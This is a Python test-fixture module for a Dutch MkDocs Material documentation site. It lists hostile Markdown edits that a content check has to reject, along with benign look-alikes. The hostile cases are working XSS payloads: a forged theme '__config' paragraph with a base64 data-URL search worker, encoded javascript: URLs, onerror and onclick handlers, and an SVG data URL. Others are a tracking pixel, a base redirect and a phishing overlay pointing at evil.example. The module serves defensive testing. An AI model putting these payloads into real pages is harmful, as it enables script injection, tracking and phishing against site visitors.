"""Hostile edits of the sample tree (issue 19): each is what a pull request from anyone could hold.

`CASES` are refused by the check (tests/test_hostile_check.py holds the exact lines); `ACCEPTED` are ordinary text
that looks close. The payloads themselves are also used with the check bypassed, in tests/test_hostile_browser.py.
"""
from __future__ import annotations

import base64
import json
import re
from pathlib import Path

from broken_cases import E25, I2, P1, W1, replace

ROOT = Path(__file__).resolve().parents[1]
MATERIAL = ROOT / ".venv/lib/python3.11/site-packages/material/templates"

# What a successful attack does: set a marker and open a dialog, both of which the browser test looks for.
ATTACK = "window.__pwned=1;alert(1)"
IMAGE_ATTACK = f'<img src=x onerror="{ATTACK}">'

# A search worker that answers every message of Material's search with a result whose title is HTML: Material
# puts result titles in the page with innerHTML.
WORKER = ("onmessage=function(e){postMessage({type:1});postMessage({type:3,data:{items:[[{location:'x',score:1,"
          f"title:{json.dumps(IMAGE_ATTACK)},text:'',tags:[],terms:{{}}}}]]}}}})}};")
WORKER_URL = "data:text/javascript;base64," + base64.b64encode(WORKER.encode()).decode()


def translation_keys() -> list[str]:
    """The keys of Material's own `__config` translations, read from the installed theme."""
    return re.findall(r'"([a-z.]+)": lang\.t\(', (MATERIAL / "base.html").read_text(encoding="utf-8"))


def config_json(**settings) -> str:
    """A Material `__config` as one line of Markdown text: JSON whose HTML and underscores are \\u-escaped, so that
    Markdown reads it as plain text and the page's text is the JSON itself."""
    config = {"base": "../../..", "features": [], "search": "assets/javascripts/workers/search.js",
              "translations": {key: key for key in translation_keys()}, "tags": None, "version": None, **settings}
    text = json.dumps(config)
    for char in "<>_&":
        text = text.replace(char, f"\\u{ord(char):04x}")
    return text


def config_paragraph(**settings) -> str:
    return f"\n\n{config_json(**settings)}\n{{: #__config }}"


XSS_WORKER = config_paragraph(search=WORKER_URL)
XSS_TRANSLATIONS = config_paragraph(translations={key: IMAGE_ATTACK for key in translation_keys()})
XSS_BASE = config_paragraph(base="https://evil.example/")
PIXEL = "![p](https://evil.example/pixel.gif)"
OVERLAY = ('<table><tr><td style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;'
           'z-index:1000">Deze site is verhuisd: <a href="https://evil.example/">klik hier</a></td></tr></table>')

BURGERS = "Burgers weten wat ze moeten doen."

CASES = {
    # 1. Stored XSS: a paragraph of JSON that takes Material's `__config` id.
    "xss-config-worker": replace(P1, BURGERS, BURGERS + XSS_WORKER),
    "xss-config-translations": replace(P1, BURGERS, BURGERS + XSS_TRANSLATIONS),
    "xss-config-base": replace(P1, BURGERS, BURGERS + XSS_BASE),
    "config-id-in-category-name": replace(E25, "naam: Oefenen en simuleren", 'naam: "Oefenen en simuleren {: #__config }"'),
    # 2. Outside requests and page takeover.
    "pixel": replace(P1, "Geld", PIXEL),
    "overlay-td-style": replace(P1, "Geld", OVERLAY),
    "image-in-a-note": replace(I2, "  - De tabellen spellen de titel anders.", f"  - 'De tabellen: {PIXEL}'"),
    # 7. What the check used to miss.
    "attribute-list-onclick": replace(P1, "Geld", 'Geld\n{: onclick="alert(1)" }'),
    "attribute-list-class": replace(P1, "Geld", "Geld\n{.md-dialog .md-dialog--active}"),
    "img-onerror-on-the-next-line": replace(P1, "Geld", "<img src=x\nonerror=alert(1)>"),
    "script-url-entity-inside": replace(P1, "Buurtverenigingen", "[klik](java&#115;cript:alert(1))"),
    "script-url-entity-first": replace(P1, "Buurtverenigingen", "[klik](&#106;avascript:alert(1))"),
    "script-url-hex-entity-colon": replace(P1, "Buurtverenigingen", "[klik](&#x6A;avascript&colon;alert(1))"),
    "script-url-case": replace(P1, "Buurtverenigingen", "[klik](JaVaScRiPt:alert(1))"),
    "script-url-tab": replace(P1, "Buurtverenigingen", "[klik](java\tscript:alert(1))"),
    "script-url-newline": replace(P1, "Buurtverenigingen", "[klik](java\nscript:alert(1))"),
    "script-url-percent": replace(P1, "Buurtverenigingen", "[klik](%6A%61vascript:alert(1))"),
    "script-url-autolink": replace(P1, "Buurtverenigingen", "<javascript://%0Aalert(1)>"),
    "data-url-svg": replace(P1, "Buurtverenigingen", "[klik](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    # 8. Markup that breaks out of the page's structure.
    "closing-divs": replace(P1, "Geld", "</div></div>"),
    "admonition": replace(P1, "Geld", '!!! danger "Gehackt"\n    Tekst.'),
    "html-comment": replace(P1, "Geld", "Geld <!-- verborgen -->"),
    # 5. Exact lines after a blank line that follows the front matter or a heading.
    "intro-line-after-blank-line": replace(W1, "De burgerreserve", "<b>De</b> burgerreserve"),
    "edition-intro-line": replace(E25, "Een klein voorbeeld", "Een <span style=\"color:red\">klein</span> voorbeeld"),
}

ACCEPTED = {
    "arrows-and-ampersands": replace(P1, "Geld", "Krijgsmacht <-> samenleving -> x > y & z; 30% of < 5"),
    # (An e-mail autolink is a link too, but content holds no e-mail address: tests/test_hostile_privacy.py.)
    "links": replace(P1, "Geld", "[Rijksoverheid](https://www.rijksoverheid.nl/), <https://example.org> en "
                                  "[idee](../../ideeen/2025/001-lokaal-oefenen.md)"),
    "prose-that-names-data": replace(P1, "Geld", "Benodigde data: 5 bestanden; het script van de oefening"),
    "heading-named-like-a-theme-id": replace(P1, "## Tweede stap", "## __config"),
}
